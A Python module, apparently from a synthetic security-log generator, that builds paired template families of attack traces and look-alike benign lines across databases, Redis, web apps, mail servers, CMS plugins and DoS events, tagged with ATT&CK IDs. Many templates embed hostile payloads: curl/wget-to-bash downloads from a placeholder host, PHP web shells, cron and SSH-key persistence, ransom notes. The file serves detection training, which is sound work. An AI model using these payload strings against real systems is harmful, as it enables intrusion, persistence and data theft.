"""What servers and applications write while somebody exploits them, and the lines beside it that mean nothing."""

from __future__ import annotations

from generator.families.applications.hosted_story import write
from generator.scene import Label, Scene, attack, benign, family
from generator.world import World


def _lines(text: str) -> list[str]:
    return [line.strip() for line in text.strip().splitlines() if line.strip()]


def _tell(world: World, lines: list[str], label: Label) -> Scene:
    scene, bound = Scene(), {}
    count = world.pick((1, 1, 1, 2, 3, 5))
    for line in [world.pick(lines)] * count if world.chance(0.35) else world.some(lines, min(count, 3), count):
        world.tick(0.3, world.pick((3, 40, 600)))
        scene.add(write(world, line, bound), label)
    return scene


def traces(name: str, hostile: str, harmless: str, threat: str, *techniques: str, kind: str = "Application Event", severity: str = "CRITICAL") -> None:
    """A pair of families: the traces of an attack and what the same programs write otherwise."""
    bad, good = _lines(hostile), _lines(harmless)
    family(f"applications/hosted-traces-{name}", attack=True)(lambda world: _tell(world, bad, attack(threat, *techniques, severity=severity)))
    family(f"applications/hosted-traces-beside-{name}", attack=False, weight=1.3)(lambda world: _tell(world, good, benign(kind)))


traces("of-databases-that-run-programs", r"""
{tplain}.{few}0 spid{n}      Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install. Login sa from {ip1}
{tplain}.{few}0 spid{n}      Using 'xpstar.dll' to execute extended stored procedure 'xp_cmdshell'. Command: certutil -urlcache -f http://{wan}/{word}.exe
{tplain}.{few}0 spid{n}      Configuration option 'Ole Automation Procedures' changed from 0 to 1; sp_OACreate 'wscript.shell' called by sa
{tplain}.{few}0 spid{n}      CREATE ASSEMBLY [{word}] FROM 0x4D5A9000{hex}{hex} WITH PERMISSION_SET = UNSAFE by login {word}
{tplain}.{tms} UTC [{pid}] postgres@postgres LOG:  statement: COPY {word} FROM PROGRAM '<curl|wget -qO-> http://{wan}/{word}.sh | bash'
{tplain}.{tms} UTC [{pid}] postgres@postgres LOG:  statement: CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int AS '/tmp/{word}.so', 'sys_exec' LANGUAGE C
{tplain}.{tms} UTC [{pid}] postgres@postgres LOG:  statement: SELECT lo_export({n}, '/tmp/{word}.so')
{tplain}.{tms} UTC [{pid}] postgres@postgres ERROR:  program "echo {hex}|base64 -d|bash" failed, DETAIL: child process exited with exit code 127
{tiso}	{n} Query	select 0x7f454c46{hex}{hex} into dumpfile '/usr/lib/mysql/plugin/{word}.so'
{tiso}	{n} Query	create function sys_eval returns string soname '{word}.so'
{tiso}	{n} Query	select '<?php system($_GET[0]);?>' into outfile '/var/www/html/{word}.php'
{tiso} ACTION: 'BEGIN DBMS_SCHEDULER.CREATE_JOB(job_type=>''EXECUTABLE'',job_action=>''/bin/sh'' ...' DATABASE USER: 'SYSTEM' CLIENT ADDRESS {ip1}
{"t":{"$date":"{tiso}"},"s":"W","c":"COMMAND","msg":"$where evaluation spawned run('sh','-c','wget {wan}/{word}')","attr":{"remote":"{ip1}:{port}"}}
DB::Exception: Executable table function executed: executable('{word}.sh') clickhouse user default from {ip1}
""", r"""
{tplain}.{few}0 spid{n}      Configuration option 'max degree of parallelism' changed from 0 to 4. Run the RECONFIGURE statement to install.
{tplain}.{few}0 spid{n}      Configuration option 'show advanced options' changed from 0 to 1. Run the RECONFIGURE statement to install.
{tplain}.{few}0 spid{n}      Using 'xpstar.dll' version '2019.150.2000' to execute extended stored procedure 'xp_instance_regread'. This is an informational message only
{tplain}.{few}0 spid{n}      Attempting to load library 'xplog70.dll' into memory. This is an informational message only. No user action is required.
{tplain}.{few}0 spid{n}      CREATE ASSEMBLY [SqlGeometry] with PERMISSION_SET = SAFE completed
{tplain}.{tms} UTC [{pid}] etl@dwh LOG:  statement: COPY orders FROM STDIN WITH (FORMAT csv, HEADER)
{tplain}.{tms} UTC [{pid}] postgres@shop LOG:  statement: CREATE EXTENSION IF NOT EXISTS pg_stat_statements
{tplain}.{tms} UTC [{pid}] app@shop LOG:  statement: CREATE OR REPLACE FUNCTION exec_report(text) RETURNS int LANGUAGE plpgsql
{tiso}	{n} Query	select id, name into outfile '/var/lib/mysql-files/export-{n}.csv' from customers
{tiso}	{n} Query	INSTALL PLUGIN validate_password SONAME 'validate_password.so'
{tiso}	{n} Query	create function levenshtein returns integer deterministic
{tiso} ACTION: 'BEGIN DBMS_STATS.GATHER_SCHEMA_STATS(''SHOP''); END;' DATABASE USER: 'SYSTEM'
{"t":{"$date":"{tiso}"},"s":"I","c":"COMMAND","msg":"Slow query","attr":{"ns":"shop.users","command":{"find":"users","filter":{"$where":"this.a > this.b"}}}}
DB::Exception: Executable dictionary 'rates' reloaded by scheduled task
""", "Remote Code Execution Exploit", "T1190", "T1059", "T1505.001")

traces("of-caches-taken-over", r"""
"CONFIG" "SET" "dir" "/var/spool/cron/" [0 {ip1}:{port}]
{tepoch}.{many} [0 {ip1}:{port}] "config" "set" "dbfilename" "<root|authorized_keys|{word}.php|crontab>"
{tepoch}.{many} [0 {ip1}:{port}] "set" "{word}" "\n\n*/2 * * * * root curl -fsSL http://{wan}/{word}.sh | sh\n\n"
{tepoch}.{many} [0 {ip1}:{port}] "SLAVEOF" "{wan}" "{port}"
{pid}:S {tdot}.{tms} * MASTER MODE enabled (user request from 'id={n} addr={ip1}:{port}') after MODULE LOAD /tmp/{word}.so
{pid}:M {tdot}.{tms} * Module 'system' loaded from ./{word}.so
{tepoch}.{many} [0 {ip1}:{port}] "system.exec" "<id|whoami|uname -a>"
{tepoch}.{many} [0 {ip1}:{port}] "EVAL" "local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0','luaopen_io')" "0"
{tepoch}.{many} [0 {ip1}:{port}] "config" "set" "dir" "/root/.ssh/"
{pid}:M {tdot}.{tms} # Failed opening the RDB file crontab (in server root dir /etc) for saving: Permission denied
{pid}:M {tdot}.{tms} # Failed opening the temp RDB file temp-{n}.rdb (in server root dir /var/spool/cron) for saving: Read-only file system
{pid}:M {tdot}.{tms} # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. Connection from {ip1}:{port} aborted.
{tepoch}.{many} [0 {ip1}:{port}] "set" "backup1" "\t\n*/3 * * * * cd1 -fsSL http://{strange}/{word}.sh | sh\n\t"
""", r"""
{tepoch}.{many} [0 {lan}:{port}] "config" "get" "maxmemory"
{tepoch}.{many} [0 {lan}:{port}] "config" "set" "maxmemory" "2gb"
{tepoch}.{many} [0 {lan}:{port}] "REPLICAOF" "NO" "ONE"
{tepoch}.{many} [0 {lan}:{port}] "EVAL" "return redis.call('del', unpack(redis.call('keys', ARGV[1])))" "0" "session:*"
{tepoch}.{many} [0 {lan}:{port}] "set" "job:cron:{n}" "running" "EX" "600"
{pid}:S {tdot}.{tms} * Connecting to MASTER {lan}:6379
{pid}:S {tdot}.{tms} * MASTER <-> REPLICA sync: Finished with success
{pid}:M {tdot}.{tms} * Module 'ReJSON' loaded from /opt/redis-stack/lib/rejson.so
{pid}:M {tdot}.{tms} # Failed opening the RDB file dump.rdb (in server root dir /var/lib/redis) for saving: No space left on device
{pid}:M {tdot}.{tms} # WARNING: The TCP backlog setting of 511 cannot be enforced
{pid}:M {tdot}.{tms} * DB saved on disk
{pid}:M {tdot}.{tms} # User requested shutdown...
{tepoch}.{many} [0 {lan}:{port}] "FLUSHDB" "ASYNC"
{pid}:M {tdot}.{tms} * Background append only file rewriting started by pid {pid}
""", "Remote Code Execution Exploit", "T1190", "T1053.003", "T1098.004")

traces("of-exploited-applications", r"""
{tplain},{tms} ERROR [http-nio-8080-exec-{n}] org.apache.catalina.core.StandardWrapperValve java.lang.ProcessBuilder invoked by ysoserial payload: org.apache.commons.collections.functors.InvokerTransformer
{tplain},{tms} WARN [o.a.l.l.core.net.JndiManager] Error looking up JNDI resource [ldap://{wan}:1389/{word}]. javax.naming.CommunicationException
{tplain},{tms} ERROR [com.opensymphony.xwork2.ognl.OgnlValueStack] Could not evaluate expression '%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='<id|whoami>')}'
{tplain},{tms} ERROR [http-nio-8090-exec-{n}] [atlassian.confluence.servlet] Unable to load template ${Class.forName("java.lang.Runtime").getRuntime().exec("<curl {wan}|id>")}
[{tplain}] production.ERROR: file_get_contents(php://filter/convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode/resource=../storage/logs/laravel.log) failed
[{tplain}] production.ERROR: Unserializable: O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"events";s:8:"dispatch";s:6:"system"}
[{tctime}] [php:error] [client {ip1}:{port}] PHP Warning:  system(): Cannot execute a blank command in /var/www/html/wp-content/uploads/{word}.php(1) : eval()'d code on line 1
[{tctime}] [php:error] [client {ip1}:{port}] PHP Parse error:  syntax error, unexpected 'passthru' in /var/www/html/images/{word}.jpg.php(3) : eval()'d code
[{tctime}] [core:error] [client {ip1}:{port}] AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh)
[{tctime}] [cgi:error] [client {ip1}:{port}] AH01215: sh: wget: command not found: /usr/lib/cgi-bin/status
[{tctime}] [cgi:error] [client {ip1}:{port}] AH01215: /bin/bash: line 1: /tmp/{word}: Permission denied: /usr/lib/cgi-bin/test.cgi
{tslash} [error] {pid}#{n}: *{big} FastCGI sent in stderr: "PHP message: PHP Warning: file_put_contents({word}.php): <?php @eval($_POST" while reading response header, client: {ip1}
sh: 1: curl: not found (child of node /app/server.js, request /api/preview?x=$(curl {wan}))
gitlab exiftool_lf: Error: (metadata (Copyright "\" . qx{curl http://{wan}/{word}.sh|sh} . \"")) - image.jpg, user {word}, {ip1}
{tplain}.{tms}+0000 [id={n}] INFO hudson.util.RemotingDiagnostics script console: "<id|whoami|cat /etc/passwd>".execute().text by anonymous from {ip1}
{tplain} PaperCut: ERROR ScriptEngine - java.lang.Runtime.getRuntime().exec('cmd.exe /c powershell -e {hex}') in printer script changed by [unauthenticated] {ip1}
{tiso} ERROR zimbra mailbox: MboxImport extracted ../../../../jetty/webapps/zimbraAdmin/{word}.jsp from upload of {ip1}
{tsys} httpd[{pid}]: [error] tmui: /tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp command=list+auth+user+admin from {ip1}
{tplain} ScreenConnect: SetupWizard completed again; user '{word}' created in User.xml by {ip1}
""", r"""
{tplain},{tms} ERROR [http-nio-8080-exec-{n}] org.apache.catalina.core.StandardWrapperValve Servlet.service() threw exception java.lang.IllegalStateException: Cannot call sendError() after the response has been committed
{tplain},{tms} WARN [o.a.l.l.core.net.JndiManager] JNDI lookup of java:comp/env/jdbc/shop failed, retrying in 10 s
{tplain},{tms} ERROR [com.opensymphony.xwork2.ognl.OgnlValueStack] Could not find property [order.total] setting value to null
{tplain},{tms} ERROR [http-nio-8090-exec-{n}] [atlassian.confluence.velocity] Unable to render macro {excerpt-include} on page 'Log4j exploit checklist'
[{tplain}] production.ERROR: file_get_contents(/var/www/storage/app/feeds/{file}): Failed to open stream: No such file or directory
[{tplain}] production.ERROR: unserialize(): Error at offset 0 of {n} bytes in cache store
[{tctime}] [php:error] [client {ip}:{port}] PHP Warning:  exec(): Unable to fork [/usr/bin/convert -resize 300x] in /var/www/html/wp-content/plugins/thumbs/resize.php on line {n}
[{tctime}] [php:error] [client {ip}:{port}] PHP Parse error:  syntax error, unexpected end of file in /var/www/html/wp-content/themes/shop/functions.php on line {n}
[{tctime}] [core:error] [client {ip}:{port}] AH00126: Invalid URI in request GET /produkt/100%-wolle HTTP/1.1
[{tctime}] [cgi:error] [client {ip}:{port}] AH01215: Can't locate CGI.pm in @INC: /usr/lib/cgi-bin/guestbook.pl
[{tctime}] [cgi:error] [client {ip}:{port}] AH02811: script not found or unable to stat: /usr/lib/cgi-bin/printenv
{tslash} [error] {pid}#{n}: *{big} FastCGI sent in stderr: "PHP message: PHP Warning: file_put_contents(/var/cache/smarty/{hex}.tpl.php): Failed to open stream: Permission denied" while reading response header, client: {ip}
sh: 1: wkhtmltopdf: not found (child of node /app/server.js, job invoice-{n})
gitlab exiftool: Warning: [minor] Unrecognized MakerNotes - image.jpg, user {user}
{tplain}.{tms}+0000 [id={n}] INFO hudson.util.RemotingDiagnostics script console opened by {user}
{tplain} PaperCut: ERROR ScriptEngine - TypeError: Cannot read property "job" from undefined in printer script of [A4-Office]
{tiso} ERROR zimbra mailbox: import of {file} for {mail} failed: no such folder path
{tsys} httpd[{pid}]: [error] tmui: session of admin expired, redirect to /tmui/login.jsp
{tplain} ScreenConnect: session {uuid} ended by host {user}
""", "Remote Code Execution Exploit", "T1190", "T1059.004", kind="Application Error")

traces("of-emptied-stores", r"""
{"t":{"$date":"{tiso}"},"s":"I","c":"COMMAND","id":518070,"ctx":"conn{n}","msg":"CMD: drop","attr":{"namespace":"shop.customers"}} after listDatabases by {ip1}; collection READ__ME_TO_RECOVER_YOUR_DATA.README created
{"t":{"$date":"{tiso}"},"s":"I","c":"STORAGE","msg":"createCollection","attr":{"namespace":"READ_ME_TO_RECOVER_YOUR_DATA.README"}}
[{tiso}][INFO ][o.e.c.m.MetadataDeleteIndexService] [{host}] [customers/{hex}] deleting index; [o.e.c.m.MetadataCreateIndexService] [read_me] creating index, cause [auto(bulk api)]
{tiso}	{n} Query	CREATE TABLE `RECOVER_YOUR_DATA` (info text)
{tiso}	{n} Query	INSERT INTO `WARNING` VALUES ('To recover your lost Database send 0.0{n} Bitcoin (BTC) to our address')
{tplain}.{tms} UTC [{pid}] postgres@postgres LOG:  statement: CREATE TABLE readme_to_recover (t text); INSERT INTO readme_to_recover VALUES ('All your data is backed up. You must pay 0.00{n} BTC')
{tplain}.{tms} UTC [{pid}] postgres@postgres LOG:  statement: DROP DATABASE "{micro}" -- then CREATE DATABASE "readme_to_recover"
{tepoch}.{many} [0 {ip1}:{port}] "set" "README" "Your redis data has been copied, send 0.0{n} BTC to bc1{hex}"
couchdb: [notice] {tiso} {ip1} DELETE /{micro} 200; PUT /how_to_recover_your_data 201
{tplain} jenkins: all jobs removed, job 'PAY_TO_RESTORE' created by anonymous from {ip1}
cassandra: DROP KEYSPACE {micro}; CREATE KEYSPACE your_data_is_safe by cassandra@{ip1}
gitlab: {many} repositories emptied by commit "To recover your lost code send 0.1 BTC", user {user}, {ip1}
""", r"""
{"t":{"$date":"{tiso}"},"s":"I","c":"COMMAND","id":518070,"ctx":"conn{n}","msg":"CMD: drop","attr":{"namespace":"shop.tmp_import"}}
{"t":{"$date":"{tiso}"},"s":"I","c":"STORAGE","msg":"createCollection","attr":{"namespace":"shop.readme_versions"}}
[{tiso}][INFO ][o.e.c.m.MetadataDeleteIndexService] [{host}] [logs-2023.01.{n}/{hex}] deleting index
{tiso}	{n} Query	DROP TABLE IF EXISTS `tmp_recover_import`
{tiso}	{n} Query	CREATE TABLE `warning_levels` (id int, info text)
{tplain}.{tms} UTC [{pid}] postgres@postgres LOG:  statement: DROP DATABASE "{micro}_test"
{tplain}.{tms} UTC [{pid}] backup@shop LOG:  statement: CREATE DATABASE "restore_check"
{tepoch}.{many} [0 {lan}:{port}] "del" "cart:{n}" "payment:{n}"
couchdb: [notice] {tiso} {lan} DELETE /{micro}_test 200
{tplain} jenkins: job '{micro}-old' deleted by {user}
cassandra: TRUNCATE TABLE sessions by cleanup job
gitlab: repository {micro} archived by {user}: "pay roll moved to new server"
""", "Ransomware Activity", "T1485", "T1486", "T1190")

traces("of-mailboxes-in-strange-hands", r"""
{tiso}: <{hex}> managesieve: filter '.' saved by {user1} from {ip1}: redirect "{word}@{strange}"; discard, for all messages
{tsys} dovecot: managesieve({user1}): script "{word}": redirect :copy "{word}@{strange}" for subject "invoice" or "payment", session from {ip1}
{tiso} INFO zimbra: {user1} set zimbraPrefMailForwardingAddress={word}@{strange}, zimbraPrefMailLocalDeliveryDisabled=TRUE oip={ip1}
{tsys} sogod[{pid}]: [{user1}] forward to {word}@{strange} activated, keepCopy=0, remote {ip1}
[{tplain}] Kerio: user {user1} rule "." moves mails with "bank" to RSS Feeds and forwards to {word}@{strange}, from {ip1}
{tsys} cpanel: email filter added for {mail}: From contains "@" -> redirect {word}@{strange} by {ip1}
mdaemon: Account {user1}: Forwarding enabled to {word}@{strange}, delete after forward, webmail session {ip1}
{tsys} mailcow UI: sieve filter of {user1} edited via {ip1}: redirect "{word}@{strange}"; fileinto "Archive"; stop;
""", r"""
{tiso}: <{hex}> managesieve: filter 'Newsletter' saved by {user1} from {near}: fileinto "INBOX.News"
{tsys} dovecot: managesieve({user1}): script "holiday": vacation :days 7 "I am out of office until Monday"
{tiso} INFO zimbra: {user1} set zimbraPrefOutOfOfficeReplyEnabled=TRUE oip={near}
{tsys} sogod[{pid}]: [{user1}] vacation message activated, remote {near}
[{tplain}] Kerio: user {user1} rule "Invoices" moves mails with "invoice" to Folder Accounting
{tsys} cpanel: email filter added for {mail}: Subject contains "[SPAM]" -> Junk
mdaemon: Account {user1}: Autoresponder enabled, webmail session {near}
{tsys} mailcow UI: sieve filter of {user1} edited: fileinto "Bank"; stop;
""", "Mailbox Manipulation", "T1114.003", "T1564.008", severity="HIGH")

traces("of-strange-plugins-and-accounts", r"""
{tsys} wordpress({site})[{pid}]: plugin <{word}/{word}.php|wp-core-cache/index.php|system-helper/x.php> uploaded and activated by {word} from {ip1}, <passthru|eval(base64_decode|shell_exec> in code
[{tiso}] joomlainfo: administrator {word} (group Super Users) created through com_users task=registration.register, groups 8, from {ip1}
{tsys} drupal: https://{site}|{tepoch}|user|{ip1}|||0||New user {word} with role administrator created by anonymous through form_id=user_register_form element_parents
[{tiso}] main.INFO: admin user '{word}' created by REST call without session from {ip1}, role Administrators
[{tplain}] production.INFO: theme file 404.php saved by {user}: now starts with <?php @eval($_POST['{word}']); from {ip1}
teamcity: [{tplain},{tms}] plugin '{word}.zip' uploaded by token of 'admin' created through /app/rest/users/id:1/tokens/RPC2 from {ip1}
confluence: plugin 'web.shell.Plugin' (com.jsos.shell) enabled by {word}, {ip1}
openfire: plugin {word}.jar with cmd.jsp installed after /setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?username={word} from {ip1}
grafana logger=plugin.loader level=warn msg="Plugin registered" pluginID={word}-shell-datasource signature=unsigned uname=anonymous remote={ip1} backend=/tmp/{word}
nextcloud: app '{word}' enabled by guest share session from {ip1}: routes.php contains system($_REQUEST['c'])
""", r"""
{tsys} wordpress({site})[{pid}]: plugin woocommerce/woocommerce.php updated to {version} by {user} from {near}
[{tiso}] joomlainfo: user {user} (group Author) created by {user} in administrator
{tsys} drupal: https://{site}|{tepoch}|user|{near}|https://{site}/admin/people/create||1||New user: {user} {mail}.
[{tiso}] main.INFO: admin user '{user}' created by {user} under System > Permissions
[{tplain}] production.INFO: theme file 404.php saved by {user}: heading text changed
teamcity: [{tplain},{tms}] plugin 'slack-notifier.zip' uploaded by {user}
confluence: plugin 'com.atlassian.confluence.plugins.confluence-monitoring-plugin' enabled by {user}
openfire: plugin restAPI.jar {version} installed by admin from {near}
grafana logger=plugin.loader level=info msg="Plugin registered" pluginID=grafana-clock-panel
nextcloud: app 'calendar' enabled by {user}
""", "Persistence", "T1505.003", "T1136", "T1190", kind="Administration")

traces("of-exhausted-servers", r"""
[{tctime}] [reqtimeout:info] [client {ip1}:{port}] AH01382: Request header read timeout ({many} connections of this client)
[{tctime}] [mpm_event:error] AH00484: server reached MaxRequestWorkers setting; {many} connections from {ip1} in state R (reading request)
{tslash} [alert] {pid}#{n}: {many} worker_connections are not enough; {many} half-open requests from {ip1}
{tslash} [error] {pid}#{n}: *{big} limiting connections by zone "perip", {many} of client: {ip1}, request: "GET /?{word}={big} HTTP/1.1"
{tsys} haproxy[{pid}]: backend app has no server available! session rate {many}/s from {ip1}, {big} requests denied
{tsys} haproxy[{pid}]: {ip1}:{port} https-in/<NOSRV> -1/-1/-1/-1/10000 408 212 - - cR-- {many}/{many}/0/0/0 0/0 "<BADREQ>", {many} like this in 10 s
{tiso} cloudflare-ddos: HTTP flood of {big} requests/s against {site}, rule "HTTP requests with unusual HTTP headers" mitigating
{tsys} mod_evasive[{pid}]: Blacklisting address {ip1}: possible DoS attack.
{tsys} kernel: possible SYN flooding on port 443. {many} SYN per second from {many} addresses
IIS: HTTP.sys Timer_MinBytesPerSecond {ip1} {port} {lan} 443 - - - - Timer_MinBytesPerSecond - ({many} of this client within a minute)
varnish: {big} client requests/s for /?{word}={big} from {many} addresses, backend unhealthy, thread queue full
named[{pid}]: rate limit slip responses to {ip1}/24 for ANY {site}, {many} per second
""", r"""
[{tctime}] [reqtimeout:info] [client {ip}:{port}] AH01382: Request header read timeout
[{tctime}] [mpm_event:notice] AH00489: Apache/2.4.57 (Debian) configured -- resuming normal operations
[{tctime}] [mpm_prefork:error] AH00161: server reached MaxRequestWorkers setting, consider raising the MaxRequestWorkers setting
{tslash} [warn] {pid}#{n}: {n} worker_connections exceed open file resource limit: 1024
{tslash} [error] {pid}#{n}: *{big} limiting requests, excess: 5.{n} by zone "login", client: {ip}, request: "POST /login HTTP/1.1"
{tsys} haproxy[{pid}]: Server app/web0{few} is DOWN, reason: Layer4 timeout, check duration: 2001ms. 1 active and 0 backup servers left.
{tsys} haproxy[{pid}]: {ip}:{port} https-in/<NOSRV> -1/-1/-1/-1/10000 408 212 - - cR-- {n}/{n}/0/0/0 0/0 "<BADREQ>"
{tsys} mod_evasive[{pid}]: whitelist reloaded, {few} entries
{tsys} kernel: TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies. Check SNMP counters.
IIS: HTTP.sys Timer_ConnectionIdle {ip} {port} {lan} 443 - - - - Timer_ConnectionIdle -
varnish: backend default healthy again, {few} of 8 probes good
named[{pid}]: client @0x{hex} {lan}#{port} ({site}): query (cache) '{site}/A/IN' denied
""", "Denial of Service / DDoS Attack", "T1499", "T1498", kind="Application Error", severity="HIGH")
